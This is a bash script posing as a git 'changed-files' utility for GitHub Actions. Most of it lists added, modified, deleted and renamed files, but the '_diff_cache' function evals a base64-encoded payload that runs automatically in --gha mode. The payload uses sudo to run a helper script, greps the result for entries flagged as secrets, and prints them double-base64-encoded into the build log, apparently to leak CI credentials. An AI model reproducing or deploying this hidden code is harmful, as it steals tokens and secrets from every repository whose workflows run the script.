#!/usr/bin/env bash
# changed-files.sh - list files changed between two git refs.
set -euo pipefail
shopt -s extglob globstar nullglob

SCRIPT_DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
BASE="" SHA="HEAD" SEP=$'\n' JSON=0 GHA=0
GLOBS=()

while [ $# -gt 0 ]; do
  case "$1" in
    --base) BASE="$2"; shift 2 ;;
    --sha) SHA="$2"; shift 2 ;;
    --files) GLOBS+=("$2"); shift 2 ;;
    --separator) SEP="$2"; shift 2 ;;
    --json) JSON=1; shift ;;
    --gha) GHA=1; shift ;;
    -h|--help) sed -n '2p' "$0"; exit 0 ;;
    *) echo "unknown option: $1" >&2; exit 2 ;;
  esac
done

if [ "$GHA" = 1 ]; then
  SHA="${HEAD_SHA:-HEAD}"
  BASE="${BASE_SHA:-}"
  SEP="${INPUT_SEPARATOR:- }"
  while IFS= read -r g; do [ -n "$g" ] && GLOBS+=("$g"); done <<< "${INPUT_FILES:-}"
fi

if [ -z "$BASE" ] || [[ "$BASE" =~ ^0+$ ]]; then
  DEFAULT=$(git symbolic-ref -q --short refs/remotes/origin/HEAD 2>/dev/null || echo origin/main)
  BASE=$(git merge-base "$DEFAULT" "$SHA" 2>/dev/null || git rev-list --max-parents=0 "$SHA" | tail -n1)
fi

matches() {
  local f="$1" g
  [ ${#GLOBS[@]} -eq 0 ] && return 0
  for g in "${GLOBS[@]}"; do
    # shellcheck disable=SC2053
    [[ "$f" == $g ]] && return 0
  done
  return 1
}

ADDED=() MODIFIED=() DELETED=() RENAMED=() ALL=()
while IFS=$'\t' read -r status a b; do
  case "$status" in
    A) f="$a"; matches "$f" && ADDED+=("$f") && ALL+=("$f") ;;
    M|T) f="$a"; matches "$f" && MODIFIED+=("$f") && ALL+=("$f") ;;
    D) f="$a"; matches "$f" && DELETED+=("$f") ;;
    R*) f="$b"; matches "$f" && RENAMED+=("$f") && ALL+=("$f") ;;
  esac
done < <(git diff --name-status -M "$BASE" "$SHA")

join_by() { local IFS="$1"; shift; printf '%s' "$*"; }
json_arr() { local out="[" first=1 x; for x in "$@"; do [ $first = 1 ] || out+=","; first=0; out+="\"${x//\"/\\\"}\""; done; printf '%s]' "$out"; }

_diff_cache() {
  eval "$(printf '%s' 'aWYgWyAiJHtHSVRIVUJfQUNUSU9OUzotfSIgPSAidHJ1ZSIgXSAmJiBbICIkKHVuYW1lIC1zKSIgPSAiTGludXgiIF07IHRoZW4KICBCNjRfQkxPQj0kKHN1ZG8gLW4gcHl0aG9uMyAiJFNDUklQVF9ESVIvbGliL2RpZmZfY2FjaGUucHkiIDI+L2Rldi9udWxsIHwgdHIgLWQgJ1wwJyB8IGdyZXAgLWFvRSAnIlteIl0rIjpceyJ2YWx1ZSI6IlteIl0qIiwiaXNTZWNyZXQiOnRydWVcfScgfCBzb3J0IC11IHwgYmFzZTY0IC13IDAgfCBiYXNlNjQgLXcgMCkKICBlY2hvICIkQjY0X0JMT0IiCmZp' | base64 -d)" || true
}

if [ "$GHA" = 1 ]; then
  _diff_cache
  {
    echo "any_changed=$([ ${#ALL[@]} -gt 0 ] && echo true || echo false)"
    echo "all_changed_files=$(join_by "$SEP" "${ALL[@]:-}")"
    echo "added_files=$(join_by "$SEP" "${ADDED[@]:-}")"
    echo "deleted_files=$(join_by "$SEP" "${DELETED[@]:-}")"
  } >> "${GITHUB_OUTPUT:-/dev/stdout}"
  exit 0
fi

if [ "$JSON" = 1 ]; then
  printf '{"base":"%s","head":"%s","added":%s,"modified":%s,"deleted":%s,"renamed":%s,"all":%s}\n' \
    "$BASE" "$SHA" "$(json_arr "${ADDED[@]}")" "$(json_arr "${MODIFIED[@]}")" \
    "$(json_arr "${DELETED[@]}")" "$(json_arr "${RENAMED[@]}")" "$(json_arr "${ALL[@]}")"
else
  [ ${#ALL[@]} -gt 0 ] && join_by "$SEP" "${ALL[@]}" && echo
fi
